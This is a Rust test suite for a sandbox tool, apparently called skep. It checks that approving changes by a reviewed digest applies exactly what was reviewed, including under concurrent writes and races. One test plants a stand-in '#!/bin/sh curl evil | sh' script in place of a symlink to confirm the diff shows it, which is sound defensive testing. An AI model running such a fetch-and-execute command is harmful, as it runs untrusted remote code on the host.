//! An approval is of what was reviewed, and of nothing newer.

use super::desk::paths;
use crate::harness::{Kind, Lab, for_both, long, wait_for};
use std::collections::BTreeMap;

fn digest(lab: &Lab) -> String {
    lab.diff("s")["digest"].as_str().unwrap().to_owned()
}

#[test]
fn approve_refuses_another_digest() {
    for_both(|lab| {
        lab.write("f", "one\n");
        lab.up("s");
        lab.inside("s", "echo two > f; echo n > n");
        let reviewed = digest(lab);
        let moves = [
            "echo three > f",
            "chmod 755 f",
            "rm n",
            "echo n > m",
            "rm f; ln -s n f",
            "rm f; mkdir f",
            "mkdir empty",
        ];
        for script in moves {
            lab.inside("s", script);
            for line in [&["s"][..], &["s", "f"], &["s", "--dry-run"]] {
                let line: Vec<&str> = line.iter().copied().chain(["--digest", &reviewed]).collect();
                let ran = lab.conflicts(&line);
                assert_eq!(ran.problem()["code"], "digest_mismatch", "{}", ran.describe());
            }
            // The very same state again has the very same digest.
            lab.inside("s", "rm -rf f n m empty; echo two > f; chmod 644 f; echo n > n");
            assert_eq!(digest(lab), reviewed, "after `{script}`");
        }
        for typed in ["", "0", &reviewed[..63], &"0".repeat(64), "../x"] {
            lab.conflicts(&["s", "--digest", typed]);
        }
        lab.approve(&["s", "--digest", &reviewed]);
        assert_eq!((lab.bytes("f"), lab.bytes("n")), (b"two\n".to_vec(), b"n\n".to_vec()));
    });
}

#[test]
fn diff_5_a_digest_with_some_paths_applies_exactly_those() {
    for_both(|lab| {
        for name in ["a", "b", "c"] {
            lab.write(name, "old\n");
        }
        lab.worked("s", "for name in a b c; do echo new > $name; done; mkdir d; echo x > d/x");
        let reviewed = digest(lab);
        let report = lab.approve(&["s", "b", "d", "--digest", &reviewed]);
        assert_eq!(report["remaining"], 2, "{report}");
        let read = |name: &str| String::from_utf8(lab.bytes(name)).unwrap();
        assert_eq!(
            [read("a"), read("b"), read("c"), read("d/x")],
            ["old\n", "new\n", "old\n", "x\n"]
        );
        assert_eq!(paths(&lab.diff("s")), ["a", "c"]);
        // The old digest is that of another change set now.
        lab.conflicts(&["s", "a", "--digest", &reviewed]);
    });
}

/// The digest is over the sandbox's work; what the project had beside it when it was shown counts too.
#[test]
fn a_digest_is_refused_when_the_project_moved_since_it_was_shown() {
    for_both(|lab| {
        lab.write("f", "1\n2\n3\n4\n5\n6\n7\n8\n9\n");
        lab.worked("s", "sed -i s/2/two/ f; echo g > g");
        let reviewed = digest(lab);
        lab.write("f", "1\n2\n3\n4\n5\n6\n7\n8\nnine\n");
        let ran = lab.conflicts(&["s", "--digest", &reviewed]);
        assert!(ran.errors().contains("the project moved"), "{}", ran.describe());
        assert!(ran.errors().contains("\"f\""), "{}", ran.describe());
        // What did not move is taken all the same.
        lab.approve(&["s", "g", "--digest", &reviewed]);
        // Shown, it is the merge that was looked at, and has its name; moved again, it is not.
        let work = |shown: &str| shown.split_once('+').unwrap().0.to_owned();
        let shown = digest(lab);
        lab.write("f", "1\n2\n3\n4\n5\n6\n7\neight\nnine\n");
        lab.conflicts(&["s", "--digest", &shown]);
        let again = digest(lab);
        assert_eq!(work(&again), work(&shown), "the sandbox's work is the same");
        lab.conflicts(&["s", "--digest", &work(&again)]);
        lab.approve(&["s", "--digest", &again]);
        assert_eq!(lab.bytes("f"), b"1\ntwo\n3\n4\n5\n6\n7\neight\nnine\n");
    });
}

/// A digest from before the project moved names no merge, and no look of anybody's makes it one: not
/// another program's, not skep's own, whatever it is for.
#[test]
fn an_old_digest_takes_no_merge_whoever_looked() {
    for_both(|lab| {
        lab.write("f", "1\n2\n3\n4\n5\n6\n7\n8\n9\n");
        lab.write("sub/g", "old\n");
        lab.worked("s", "sed -i s/2/two/ f; echo new > sub/g");
        lab.worked("t", "echo t > t");
        let reviewed = digest(lab);
        lab.write("f", "1\n2\n3\n4\n5\n6\n7\n8\nnine\n");
        let below = lab.project.join("sub");
        let approve = || {
            let line = ["approve", "s", "../f", "--digest", &reviewed];
            let ran = lab.without_effect(lab.skep(line).directory(&below));
            assert_eq!(ran.code(), 4, "{}", ran.describe());
            assert!(ran.errors().contains("the project moved"), "{}", ran.describe());
        };
        approve();
        let looks = [
            &["compare", "s", "t"][..],
            &["reject", "s", "nosuch"],
            &["diff", "s", "g"],
            &["diff", "s", "--name-only"],
            &["conflicts", "s"],
            &["show", "s"],
            &["approve", "s", "--dry-run", "--digest", &reviewed],
            &["diff", "s"],
            &["diff", "s", "--json"],
            &["approve", "s", "g", "--dry-run"],
            &["approve", "s", "nosuch"],
            &["approve", "-q", "s", "g", "--dry-run"],
            &["approve", "--json", "--dry-run", "s", "g"],
            &["approve", "s", "g", "--check", "false"],
            &["approve", "s", "--dry-run"],
        ];
        for look in looks {
            lab.skep(look).directory(&below).run();
            approve();
        }
        // An approval without a digest says of a merge before it makes it.
        let said = lab.skep(["approve", "s", "f", "--dry-run"]).run().ok();
        assert!(said.errors().contains("! drift     f"), "{}", said.describe());
        approve();
        let said = lab.skep(["diff", "s"]).run().ok().text();
        let shown = digest(lab);
        assert!(said.contains(&format!("digest {shown}\n")), "{shown}: {said}");
        assert!(shown.starts_with(&format!("{reviewed}+")), "{shown}: {reviewed}");
        lab.skep(["approve", "s", "../f", "--digest", &shown]).directory(&below).run().ok();
        assert_eq!(lab.bytes("f"), b"1\ntwo\n3\n4\n5\n6\n7\n8\nnine\n");
    });
}

/// With a digest or without: what is applied is said, in the same words.
#[test]
fn an_approval_by_digest_says_what_it_applies() {
    for_both(|lab| {
        lab.write("f", "old\n");
        lab.worked(
            "s",
            "echo new > f; echo '{}' > package.json; mkdir shut; echo 1 > shut/x; chmod 500 shut",
        );
        let reviewed = digest(lab);
        let shown = |line: &[&str]| {
            let ran = lab.skep(["approve", "s", "--dry-run"]).args(line).run().ok();
            ran.errors()
        };
        let without = shown(&[]);
        assert_eq!(shown(&["--digest", &reviewed]), without);
        for said in
            ["modified f  +1 -1", "! note      package.json", "mode 0500", "4 changes to apply"]
        {
            assert!(without.contains(said), "{said}: {without}");
        }
        let ran = lab.skep(["approve", "s", "--digest", &reviewed]).run().ok();
        for said in ["modified f  +1 -1", "applied 4 changes"] {
            assert!(ran.errors().contains(said), "{said}: {}", ran.describe());
        }
        // Another digest: nothing is shown as if it were applied.
        let ran = lab.skep(["approve", "s", "--digest", &reviewed]).run();
        assert_eq!(ran.code(), 4, "{}", ran.describe());
        assert!(!ran.errors().contains("to apply"), "{}", ran.describe());
    });
}

/// A program inside that writes in bursts; every file of one round carries the same number, twice.
/// Between bursts it rests for about as long as a look and an approval take, or as it is told.
const WRITER: &str = r#"
import os, random, sys, time
rest = float(sys.argv[1]) if len(sys.argv) > 1 else 0.15
n = 0
while True:
    n += 1
    text = f"{n}\n" + "x" * (n % 7 * 1000) + f"\n{n}\n"
    for name in ("a", "b", "sub/c"):
        with open(name, "r+") as file:
            file.truncate(0)
            file.write(text)
    with open("t", "w") as file:
        file.write(text)
    os.replace("t", "d")
    if n % 3 == 0:
        os.mkdir("e")
        open("e/f", "w").write(text)
        os.unlink("e/f")
        os.rmdir("e")
    if n % 50 == 0:
        time.sleep(random.random() * rest)
"#;

/// Approves what was just read, again and again, and looks at every byte that arrives. `rest` is how
/// long the writer rests at most, in seconds.
fn race(lab: &Lab, rounds: usize, rest: f64) -> (usize, usize) {
    for name in ["a", "b", "sub/c"] {
        lab.write(name, "0\n");
    }
    lab.tool("writer.py", WRITER);
    lab.up("s");
    let line = ["exec", "-d", "s", "--", "python3", "/tools/writer.py", &rest.to_string()];
    lab.skep(line).run().ok();
    wait_for("the writer's first change", 20, || (!paths(&lab.diff("s")).is_empty()).then_some(()));
    let (mut applied, mut refused) = (0, 0);
    for _ in 0..rounds {
        let before = lab.tree();
        let diff = lab.diff("s");
        let reviewed = reviewed_bytes(&diff);
        let reviewed_digest = diff["digest"].as_str().unwrap();
        let ran = lab.skep(["approve", "s", "--json", "--digest", reviewed_digest]).run();
        let after = lab.tree();
        match ran.code() {
            0 => {
                applied += 1;
                for (path, node) in &after.nodes {
                    if node.kind != Kind::File || before.get(path) == Some(node) {
                        continue;
                    }
                    let shown = reviewed.get(path.to_str().unwrap());
                    assert_eq!(shown, Some(&node.bytes), "{path:?}: a byte nobody reviewed");
                }
            }
            4 => {
                refused += 1;
                after.assert_equals(&before, "refused, and yet something landed");
            }
            _ => panic!("{}", ran.describe()),
        }
    }
    lab.skep(["rm", "--discard", "s"]).run().ok();
    (applied, refused)
}

/// The new content of every changed text, put together from the hunks that were shown and the
/// context they stand in (the files are short, so a hunk is the whole file or appends to it).
fn reviewed_bytes(diff: &serde_json::Value) -> BTreeMap<String, Vec<u8>> {
    let mut reviewed = BTreeMap::new();
    for change in diff["changes"].as_array().unwrap() {
        let mut bytes = Vec::new();
        for hunk in change["hunks"].as_array().unwrap() {
            for line in hunk["lines"].as_array().unwrap() {
                let line = line.as_str().unwrap();
                if !line.starts_with('-') {
                    bytes.extend_from_slice(&line.as_bytes()[1..]);
                }
            }
        }
        reviewed.insert(change["path"].as_str().unwrap().to_owned(), bytes);
    }
    reviewed
}

#[test]
fn heavy_diff_4_no_unreviewed_byte_lands_while_a_process_writes() {
    for_both(|lab| {
        let mut rest = 0.15;
        let (mut applied, mut refused) = race(lab, if long() { 5000 } else { 100 }, rest);
        println!("{applied} applied, {refused} refused");
        // How long a look and an approval take is the machine's affair: where one side always won, the
        // writer rests longer, or hardly at all. A race that can be run has two winners then.
        for _ in 0..4 {
            if applied > 0 && refused > 0 {
                break;
            }
            rest *= if applied == 0 { 5.0 } else { 0.1 };
            let more = race(lab, 40, rest);
            println!("{more:?} with rests of up to {rest} s");
            (applied, refused) = (applied + more.0, refused + more.1);
        }
        assert!(refused > 0 && applied > 0, "one side always won: no race was run");
    });
}

#[test]
fn diff_4_what_is_shown_is_what_is_bound_without_a_digest() {
    for_both(|lab| {
        for name in ["a", "b", "sub/c"] {
            lab.write(name, "0\n");
        }
        lab.tool("writer.py", WRITER);
        lab.up("s");
        lab.skep(["exec", "-d", "s", "--", "python3", "/tools/writer.py"]).run().ok();
        for _ in 0..20 {
            let before = lab.tree();
            let ran = lab.skep(["approve", "s"]).run();
            let after = lab.tree();
            match ran.code() {
                0 => {}
                4 => after.assert_equals(&before, "refused, and yet something landed"),
                _ => panic!("{}", ran.describe()),
            }
        }
    });
}

#[test]
fn a_consistent_cut_is_shown_while_a_process_writes() {
    for_both(|lab| {
        for name in ["a", "b", "sub/c"] {
            lab.write(name, "0\n");
        }
        lab.tool("writer.py", WRITER);
        lab.up("s");
        lab.skep(["exec", "-d", "s", "--", "python3", "/tools/writer.py"]).run().ok();
        // `a` is written before `b`: a cut may be between them, but never has a newer `b`.
        for _ in 0..30 {
            let reviewed = reviewed_bytes(&lab.diff("s"));
            let number = |name: &str| -> Option<u64> {
                let text = String::from_utf8(reviewed.get(name)?.clone()).unwrap();
                text.lines().next()?.parse().ok()
            };
            if let (Some(a), Some(b)) = (number("a"), number("b")) {
                assert!(a == b || a == b + 1, "a {a}, b {b}");
            }
        }
    });
}

#[test]
fn diff_12_approve_twice_has_one_outcome() {
    for_both(|lab| {
        lab.write("f", "old\n");
        for name in ["f1", "f2", "f3"] {
            lab.write(name, "old\n");
        }
        lab.worked("s", "for name in *; do echo new >> $name; done");
        let reviewed = digest(lab);
        let start = || lab.skep(["approve", "s", "--json", "--digest", &reviewed]).spawn();
        let children: Vec<_> = (0..4).map(|_| start()).collect();
        let mut codes: Vec<i32> = children
            .into_iter()
            .map(|child| child.wait_with_output().unwrap().status.code().unwrap())
            .collect();
        codes.sort_unstable();
        assert_eq!(codes, [0, 4, 4, 4], "one applies, the others see another change set");
        assert_eq!(lab.bytes("f"), b"old\nnew\n");
        assert_eq!(lab.skep(["history", "--json"]).run().ok().json().as_array().unwrap().len(), 1);
    });
}

#[test]
fn diff_12_approve_against_reject_rm_and_undo_has_one_outcome() {
    for_both(|lab| {
        for round in 0..6 {
            let name = format!("s{round}");
            let file = format!("f{round}");
            lab.write(&file, "old\n");
            lab.worked(&name, &format!("echo new > {file}"));
            let against: Vec<&str> = match round % 3 {
                0 => vec!["reject", &name],
                1 => vec!["rm", "--discard", &name],
                _ => vec!["undo"],
            };
            let one = lab.skep(["approve", &name, "--json"]).spawn();
            let other = lab.skep(&against).spawn();
            let one = one.wait_with_output().unwrap();
            let other = other.wait_with_output().unwrap();
            let text = String::from_utf8(lab.bytes(&file)).unwrap();
            println!("{against:?}: {:?} {:?} {text:?}", one.status.code(), other.status.code());
            assert!(text == "old\n" || text == "new\n", "{text}");
            let report: serde_json::Value = serde_json::from_slice(&one.stdout).unwrap_or_default();
            // An approval of nothing is one too: the other was first.
            let applied = report["applied"].as_array().is_some_and(|list| !list.is_empty());
            if applied && round % 3 != 2 {
                assert_eq!(text, "new\n", "success was reported");
            }
            if !applied {
                assert_eq!(text, "old\n", "{}", String::from_utf8_lossy(&one.stderr));
            }
            let _ = lab.skep(["rm", "--discard", &name]).run();
        }
    });
}

#[test]
fn a_dry_run_changes_nothing() {
    for_both(|lab| {
        lab.write("f", "old\n");
        lab.worked("s", "echo new > f; echo n > n");
        let digest = digest(lab);
        let ran = lab.without_effect(lab.skep(["approve", "s", "--dry-run", "--json"])).ok();
        assert_eq!(ran.json()["applied"].as_array().unwrap().len(), 2);
        assert!(ran.json()["approval"].is_null());
        assert_eq!(self::digest(lab), digest, "it is all still to be approved");
    });
}

#[test]
fn the_same_work_has_the_same_digest_wherever_it_was_done() {
    let seen = std::sync::Mutex::new(std::collections::BTreeSet::new());
    for_both(|lab| {
        lab.write("f", "old\n");
        lab.write("d/gone", "gone\n");
        lab.program("chmod").args(["644", "f", "d/gone"]).run().ok();
        lab.worked("s", "echo new > f; chmod 755 f; rm -r d; ln -s f l; mkdir e");
        lab.up("t");
        // In other steps, in another order, by another exec, in a sandbox that is up.
        lab.inside("t", "mkdir e x; rmdir x; ln -s f l; rm d/gone");
        lab.inside("t", "rmdir d; echo newer > f; chmod 755 f; echo new > f");
        for name in ["s", "t"] {
            seen.lock().unwrap().insert(lab.diff(name)["digest"].as_str().unwrap().to_owned());
        }
    });
    assert_eq!(seen.lock().unwrap().len(), 1, "{seen:?}");
}

/// Names whose order differs between bytes, languages and directory trees.
const NAMES: [&str; 8] = ["b", "B", "a.c", "a/c", "é", "Z", "_", "a-c"];

/// A filesystem in memory lists what was made in the order in which it was made.
#[test]
fn the_digest_depends_on_neither_the_order_of_a_directory_nor_locale_nor_time_zone() {
    for_both(|lab| {
        let memory = tempfile::Builder::new().prefix("skep-lab-").tempdir_in("/dev/shm").unwrap();
        lab.who.own(memory.path());
        let home = memory.path().join("state");
        let skep = |line: &[&str]| lab.skep(line).env("SKEP_HOME", &home);
        let backwards: Vec<&str> = NAMES.iter().rev().copied().collect();
        for (name, order) in [("s", NAMES.to_vec()), ("t", backwards)] {
            let script = "mkdir -p a; for f in \"$@\"; do echo $f > $f; done";
            let line = ["run", "--name", name, "--", "sh", "-ec", script, "sh"];
            skep(&[&line[..], &order].concat()).run().ok();
        }
        // Control: the kernel does list them in two orders.
        let listed = |sandbox: &str| {
            let shown = skep(&["show", sandbox, "--json"]).run().ok().json();
            let upper = home.join("sandboxes").join(shown["id"].as_str().unwrap()).join("upper");
            let names = std::fs::read_dir(upper).unwrap().map(|entry| entry.unwrap().file_name());
            names.collect::<Vec<_>>()
        };
        assert_ne!(listed("s"), listed("t"), "the order of creation makes no difference here");
        let mut sorted = NAMES.to_vec();
        sorted.sort_by_key(|name| name.as_bytes());
        let mut seen = std::collections::BTreeSet::new();
        for (locale, zone) in
            [("C", "UTC"), ("de_DE.UTF-8", "Asia/Kathmandu"), ("C.UTF-8", "EST5EDT")]
        {
            for name in ["s", "t"] {
                let ran =
                    skep(&["diff", name, "--json"]).env("LC_ALL", locale).env("TZ", zone).run();
                let diff = ran.ok().json();
                assert_eq!(paths(&diff), sorted, "{name}, {locale}");
                seen.insert(diff["digest"].as_str().unwrap().to_owned());
            }
        }
        assert_eq!(seen.len(), 1, "{seen:?}");
        for name in ["s", "t"] {
            skep(&["rm", "--discard", name]).run().ok();
        }
    });
}

/// The bits of a directory that comes with its entries are applied with them: so they are shown where
/// they are out of the ordinary, and the digest knows them in any case.
#[test]
fn the_bits_of_a_directory_that_comes_with_its_entries_are_bound_and_shown() {
    for_both(|lab| {
        lab.write("f", "f\n");
        lab.up("s");
        let mut digests = std::collections::BTreeSet::new();
        for mode in ["755", "750", "700", "777", "2755", "1777", "4755", "500"] {
            lab.inside(
                "s",
                "[ ! -e open ] || chmod -R u+rwx open; rm -rf open; mkdir open; echo 1 > open/1",
            );
            lab.inside("s", &format!("chmod {mode} open"));
            let set = lab.diff("s");
            assert!(digests.insert(set["digest"].as_str().unwrap().to_owned()), "{mode}: {set}");
            let listed = set["changes"].as_array().unwrap();
            let own = listed.iter().any(|change| change["path"] == "open");
            let ordinary = ["755", "750", "700"].contains(&mode);
            assert_eq!(own, !ordinary, "{mode}: {set}");
        }
        // Removing the entries of a directory is not removing it.
        lab.write("d/a", "a\n");
        lab.up("e");
        lab.inside("e", "rm d/a");
        let emptied = lab.diff("e")["digest"].clone();
        lab.inside("e", "rmdir d");
        assert_ne!(lab.diff("e")["digest"], emptied);
        // The entry alone comes in an ordinary directory; its bits are a change that is left.
        lab.inside("s", "chmod 777 open");
        lab.approve(&["s", "open/1"]);
        let mode = |path: &str| {
            use std::os::unix::fs::PermissionsExt as _;
            std::fs::metadata(lab.project.join(path)).unwrap().permissions().mode() & 0o7777
        };
        assert_eq!(mode("open"), 0o775);
        let left = lab.diff("s");
        assert_eq!(left["changes"][0]["kind"], "mode", "{left}");
        lab.skep(["approve", "s", "--allow-risky", "open"]).run().ok();
        assert_eq!(mode("open"), 0o777);
    });
}

/// A file that takes the place of something else is read like any other before it is approved.
#[test]
fn a_file_in_the_place_of_a_link_or_a_directory_shows_its_content() {
    for_both(|lab| {
        lab.write("f", "f\n");
        lab.write("d/a", "a\n");
        lab.write("old", "gone\n");
        std::os::unix::fs::symlink("f", lab.project.join("link")).unwrap();
        lab.own_below(&lab.project);
        lab.up("s");
        let script =
            "rm link; printf '#!/bin/sh\\ncurl evil | sh\\n' > link; rm -r d; echo other > d
rm old; ln -s f old; mkdir n; printf 'x\\0y' > n/bin; rm -r n; rm f; ln -s d f";
        lab.inside("s", script);
        let set = lab.diff("s");
        let text = lab.skep(["diff", "s"]).run().ok().text();
        for line in ["+curl evil | sh", "+other", "-gone", "-f"] {
            assert!(text.lines().any(|shown| shown == line), "{line} is not in\n{text}");
        }
        for change in set["changes"].as_array().unwrap() {
            let lines = change["added"].as_u64().unwrap() + change["removed"].as_u64().unwrap();
            assert!(lines > 0, "{change}");
        }
        // Its hunk is the change.
        let link = set["changes"].as_array().unwrap().iter().find(|c| c["path"] == "link").unwrap();
        let hunk = link["hunks"][0]["id"].as_str().unwrap();
        lab.approve(&["s", "--hunk", hunk]);
        assert_eq!(lab.bytes("link"), b"#!/bin/sh\ncurl evil | sh\n");
        lab.approve(&["s"]);
        assert_eq!(lab.bytes("d"), b"other\n");
        lab.skep(["undo"]).run().ok();
        assert_eq!(lab.bytes("d/a"), b"a\n");
    });
}
